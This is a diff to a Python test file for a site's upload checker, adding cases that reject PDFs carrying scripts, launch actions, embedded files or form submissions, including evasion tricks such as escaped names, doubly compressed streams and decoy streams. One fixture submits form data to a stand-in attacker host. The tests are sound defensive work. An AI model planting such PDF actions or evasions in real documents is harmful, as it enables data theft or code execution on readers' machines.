@@ -3,6 +3,8 @@
 
 from __future__ import annotations
 
+import zlib
+
 import pytest
 
 from orkest.checks.content_policy import Policy
@@ -13,6 +15,12 @@ from orkest.testing import ROOT, build_site, fixture_project
 RULES = Policy.load().files
 WEBP = (ROOT / "docs/instrumenten/video/viool-stapel-plaatsen-nl.webp").read_bytes()
 SVG_HEAD = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
+
+
+def pdf_packed(objects: bytes) -> bytes:
+    """A PDF whose objects are in a zlib-compressed (FlateDecode) object stream."""
+    return b"%PDF-1.7\n2 0 obj <</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(objects) + b"\nendstream"
+
 
 BAD_FILES = {
     "html pretending to be a picture": ("viool.png", b"<html><script>alert(1)</script></html>",
@@ -85,7 +93,49 @@ BAD_FILES = {
         "tekening.svg", SVG_HEAD + b'<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></svg>',
         "<{http://www.w3.org/1999/xhtml}script> is not allowed in an SVG"),
     "pdf with a script": ("folder.pdf", b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
-                          "the PDF contains actions or scripts"),
+                          "the PDF contains actions, scripts or attached files (/JS, /JavaScript, /OpenAction): print it again"),
+    "pdf with escaped names": (
+        "folder.pdf", b"%PDF-1.7\n1 0 obj <</Open#41ction<</S/J#61vaScript/J#53(app.alert(1))>>>>",
+        "the PDF contains actions, scripts or attached files (/JS, /JavaScript, /OpenAction)"),
+    "pdf sending a form": (
+        "folder.pdf", b"%PDF-1.7\n1 0 obj <</A<</S/SubmitForm/F(https://evil.example/)>>>>",
+        "the PDF contains actions, scripts or attached files (/SubmitForm)"),
+    "pdf opening another file": (
+        "folder.pdf", b"%PDF-1.7\n1 0 obj <</A<</S/GoToR/F(x.pdf)>>/B<</S/GoToE>>>>",
+        "the PDF contains actions, scripts or attached files (/GoToE, /GoToR)"),
+    "pdf with attachments": (
+        "folder.pdf", b"%PDF-1.7\n1 0 obj <</Names<</EmbeddedFiles 2 0 R>>>>",
+        "the PDF contains actions, scripts or attached files (/EmbeddedFiles)"),
+    "pdf script in an object stream": (
+        "folder.pdf", pdf_packed(b"<</S/JavaScript/JS(app.alert(1))>>"),
+        "the PDF contains actions, scripts or attached files (/JS, /JavaScript)"),
+    "pdf script packed twice": (
+        "folder.pdf", pdf_packed(zlib.compress(b"<</S/Launch/F(calc.exe)>>")),
+        "the PDF contains actions, scripts or attached files (/Launch)"),
+    "pdf script after a wrong checksum": (
+        "folder.pdf", pdf_packed(b"<</S/JavaScript>>")[:-14] + b"\0\0\0\0\nendstream",
+        "the PDF contains actions, scripts or attached files (/JavaScript)"),
+    "pdf stream after a decoy": (
+        "folder.pdf", pdf_packed(b"<</AA 3 0 R>>").replace(b"2 0 obj", b"1 0 obj (stream\n) endobj 2 0 obj"),
+        "the PDF contains actions, scripts or attached files (/AA)"),
+    "pdf stream data on the next line": (
+        "folder.pdf", pdf_packed(b"<</XFA 3 0 R>>").replace(b"stream\n", b"stream %\n"),
+        "the PDF contains actions, scripts or attached files (/XFA)"),
+    "pdf stream data right after the keyword": (
+        "folder.pdf", pdf_packed(b"<</RichMedia 3 0 R>>").replace(b"stream\n", b"stream"),
+        "the PDF contains actions, scripts or attached files (/RichMedia)"),
+    "pdf with a damaged stream": (
+        "folder.pdf", b"%PDF-1.7\n2 0 obj <<>>stream\nx\x9c\xff\xff\nendstream",
+        "a compressed part of the PDF is damaged, so it cannot be checked: print it again"),
+    "pdf that unpacks too far": (
+        "folder.pdf", pdf_packed(bytes(21 * 2**20)),
+        "the PDF unpacks to more than 20 MB, too much to check: print it again"),
+    "pdf with a password": (
+        "folder.pdf", b"%PDF-1.7\ntrailer <</Root 1 0 R/Encrypt 5 0 R>>",
+        "the PDF is encrypted or packed in a way this check cannot read (/Encrypt): print it again"),
+    "pdf packed as hex": (
+        "folder.pdf", b"%PDF-1.7\n1 0 obj <</Type/ObjStm/Filter/ASCIIHexDecode>>stream\n3c3c2f4a533e3e\nendstream",
+        "cannot read (/ASCIIHexDecode)"),
     "picture over budget": ("groot.webp", WEBP[:16] + b"\0" * (301 * 1024), "more than 300 KB: convert it to WebP"),
     "bad name": ("Mijn Viool.webp", WEBP, "file name: use only lower-case letters"),
     "unknown type": ("oud.docx", b"PK\x03\x04", "file type '.docx' is not allowed here"),
@@ -110,6 +160,8 @@ def test_good_files_pass(tmp_path):
                                       + SVG_HEAD + b'<title>Een viool</title><defs><linearGradient id="g"/></defs>'
                                       b'<rect width="10" height="10" fill="url(#g)" style="stroke:url( \'#g\' )"/>'
                                       b'<use href="#g"/></svg>')
+    (docs / "handboek.pdf").write_bytes(pdf_packed(b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://leerorkest.nl/)>>"
+                                                   b"/JSON/AAA/S/GoTo>>"))
     (docs / "les.vtt").write_text("WEBVTT\n\n00:00.000 --> 00:01.000\nHallo\n", encoding="utf-8")
     assert file_problems(docs, RULES) == []
 
